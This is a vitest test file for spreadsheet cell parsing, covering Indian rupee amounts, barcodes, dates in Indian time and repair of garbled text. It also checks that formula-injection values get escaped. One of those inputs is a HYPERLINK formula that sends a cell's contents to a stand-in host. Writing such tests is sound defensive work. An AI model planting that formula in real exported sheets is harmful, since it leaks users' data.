import { describe, expect, test } from 'vitest';
import { plainCell, safeCell } from './cell-text.ts';
import { ungarbled } from './garbled-text.ts';
import { readBarcode } from './read-barcode.ts';
import { readMoment, readMonth, writeMoment } from './read-moments.ts';
import { readRupees } from './read-rupees.ts';
import { readDay, readWholeNumber, readYesNo } from './read-values.ts';

describe('cells of sheets', () => {
  test.each([
    ['1,23,456.00', 12_345_600],
    ['12499', 1_249_900],
    ['₹ 12,499.50', 1_249_950],
    ['33.61', 3361],
    ['123,456', 12_345_600],
    ['Rs. 5.5', 550],
    ['0', 0],
  ])('[IMP-01][C1-12] %s is %i paise', (text, value) => {
    expect(readRupees(text)).toEqual({ value });
  });

  test.each(['₹1,299/-', 'Rs. 1,299/-', '1,299.00 INR', 'Rs 1299 /-', '\u00a01,299 ₹\u00a0', '1299/='])(
    '[IMP-101][C1-12] %s is 1,299 rupees, as bills in India write it',
    (text) => {
      expect(readRupees(text)).toEqual({ value: 129_900 });
    },
  );

  test.each(['1,299/2', '(1,299)', '12%', '1 299', '½', '--1', '₹', '/-', `${'9'.repeat(30)}`])(
    '[IMP-101][C1-12] %s is refused',
    (text) => {
      expect(readRupees(text)).toHaveProperty('problem');
    },
  );

  test('[IMP-101] whole numbers are read with their separators, and what could mean a thousand or one is refused', () => {
    for (const text of ['1200', '1,200', '1200.00', '1,200.0'])
      expect(readWholeNumber(text), text).toEqual({ value: 1200 });
    expect(readWholeNumber('1,00,000')).toEqual({ value: 100_000 });
    for (const text of ['1.200', '1.000', '1,2', '12,00', '-1', '1e3', '12 pcs'])
      expect(readWholeNumber(text), text).toHaveProperty('problem');
  });

  test.each(['12.499,00', '1.2E+04', '12499.999', '-5', '12,49,9', '', 'free', '999999999', '1,2,3'])(
    '[IMP-01][C1-12] %s is refused with a sentence',
    (text) => {
      expect(readRupees(text)).toEqual({ problem: expect.stringContaining(`“${text}”`) });
    },
  );

  test('[IMP-02] whole numbers, yes or no, and days in India', () => {
    expect(readWholeNumber('12.0')).toEqual({ value: 12 });
    expect(readWholeNumber('1.5')).toHaveProperty('problem');
    expect([readYesNo('Yes'), readYesNo('0')]).toEqual([{ value: true }, { value: false }]);
    expect(readYesNo('maybe')).toHaveProperty('problem');
    for (const text of ['2026-12-31', '31-12-2026', '31/12/2026'])
      expect(readDay(text)).toEqual({ value: '2026-12-31' });
    for (const text of ['12/31/2026', '2026-02-30', '46022']) expect(readDay(text)).toHaveProperty('problem');
  });

  test('[IMP-03][IMP-133] barcodes that a spreadsheet has spoilt are refused, one whose last digit does not fit is asked, and a lost zero is said', () => {
    expect(readBarcode('8904123000171')).toEqual({ value: '8904123000171' });
    expect(readBarcode('8904123000172')).toMatchObject({
      ...{ value: '8904123000172', warning: expect.any(String) },
      question: 'The last digit of 8904123000172 does not fit. Is this the barcode?',
    });
    expect(readBarcode('2000000123455')).not.toHaveProperty('question');
    expect(readBarcode('036000291452')).toEqual({ value: '036000291452', warning: expect.stringContaining('13') });
    expect(readBarcode('8.90442E+12')).toEqual({ problem: expect.stringContaining('shortened') });
    expect(readBarcode('36000291452')).toEqual({ problem: expect.stringContaining('036000291452') });
    expect(readBarcode('BJ1')).toHaveProperty('problem');
  });

  test.each([
    ['CafÃ© Lumo', 'Café Lumo'],
    ['5â€³ screen', '5″ screen'],
    ['It’s â€œnewâ€\u009d', 'It’s “new”'],
    ['12 Â°C', '12 °C'],
    ['à¤²à¥ˆà¤‚à¤ª', 'लैंप'],
    ['â‚¹499', '₹499'],
  ])('[IMP-136] %s was %s', (given, meant) => {
    expect(ungarbled(given)).toBe(meant);
  });

  test.each(['Café', 'लैंप', '5″ – 7″', '₹499', 'Ångström', 'Ü', '20 °C ± 2', 'naïve “quotes”', 'ÃÂ'])(
    '[IMP-136] %s is as it was written',
    (text) => {
      expect(ungarbled(text)).toBeUndefined();
    },
  );

  test('[IMP-133] the apostrophe that makes a cell text is no part of a number, day or code', () => {
    expect(readBarcode("'8904123000171")).toEqual({ value: '8904123000171' });
    expect(readBarcode('’8904123000171')).toEqual({ value: '8904123000171' });
    expect(readRupees("'499.50")).toEqual({ value: 49_950 });
    expect(readWholeNumber("' 12")).toEqual({ value: 12 });
    expect([readDay("'2026-12-31"), readMonth("'2026-03")]).toEqual([{ value: '2026-12-31' }, { value: '2026-03' }]);
    expect(readMoment("'2026-12-31", 'start')).toEqual(readMoment('2026-12-31', 'start'));
    for (const text of ["'", "4'99"]) expect(readRupees(text)).toHaveProperty('problem');
  });

  test.each(['＝1+1', '＋1', '－2+3', '＠SUM(1)', "'＝1"])(
    '[IMP-101][C1-15] the wide sign of %s begins no cell either',
    (text) => {
      expect(safeCell(text)).toBe(`'${text}`);
      expect(plainCell(safeCell(text))).toBe(text);
    },
  );

  test.each(['=HYPERLINK("http://x.example/?"&A1)', '@SUM(1)', '-2+3', '\tx', '\rx', '+1+1', "'=1", '-clear-'])(
    '[IMP-04][C1-15] %j does not begin a cell, and is read again as it was',
    (text) => {
      expect(safeCell(text)).toBe(`'${text}`);
      expect(plainCell(safeCell(text))).toBe(text);
    },
  );

  test.each(['+91 98200 12345', '+919820012345', '-12.50', '−12.50', '12', "'tis", 'Buds'])(
    '[IMP-04][C1-15] %s stays as it is',
    (text) => {
      expect(safeCell(text)).toBe(text);
      expect(plainCell(text)).toBe(text);
    },
  );

  test.each([
    ['31-12-2026', '2026-12-30T18:30:00.000Z', '2026-12-31T18:30:00.000Z'],
    ['2026-12-31', '2026-12-30T18:30:00.000Z', '2026-12-31T18:30:00.000Z'],
    ['31/12/2026 23:59', '2026-12-31T18:29:00.000Z', '2026-12-31T18:29:00.000Z'],
    ['31-12-2026 11:59 PM', '2026-12-31T18:29:00.000Z', '2026-12-31T18:29:00.000Z'],
    ['1/2/2027 12:05:09 am', '2027-01-31T18:35:09.000Z', '2027-01-31T18:35:09.000Z'],
    ['2026-12-31T18:30', '2026-12-31T13:00:00.000Z', '2026-12-31T13:00:00.000Z'],
    ['2026-12-31T18:30:00Z', '2026-12-31T18:30:00.000Z', '2026-12-31T18:30:00.000Z'],
  ])('[IMP-40] %s is read in the time of India; a day alone begins and ends at its midnights', (text, start, end) => {
    const [from, until] = [readMoment(text, 'start'), readMoment(text, 'end')];
    expect([from, until]).toEqual([{ value: new Date(start) }, { value: new Date(end) }]);
    expect(readMoment(writeMoment(new Date(start), 'start'), 'start')).toEqual(from);
    expect(readMoment(writeMoment(new Date(end), 'end'), 'end')).toEqual(until);
  });

  test.each(['12/31/2026', '31-02-2026', '31-12-26', '2026-12-31 24:00', '31-12-2026 13:00 pm', 'tomorrow', '46022'])(
    '[IMP-40] %s is no moment, and is refused with a sentence',
    (text) => {
      expect(readMoment(text, 'start')).toEqual({ problem: expect.stringContaining(`“${text}”`) });
    },
  );

  test('[IMP-02] months are read as they are written, and as a spreadsheet makes of them', () => {
    for (const text of ['2026-03', '2026-03-01', '03-2026', '3/2026', '01-03-2026', 'Mar-26', 'March 2026'])
      expect(readMonth(text)).toEqual({ value: '2026-03' });
    for (const text of ['2026-13', '2026', 'Foo-26', '']) expect(readMonth(text)).toHaveProperty('problem');
  });
});
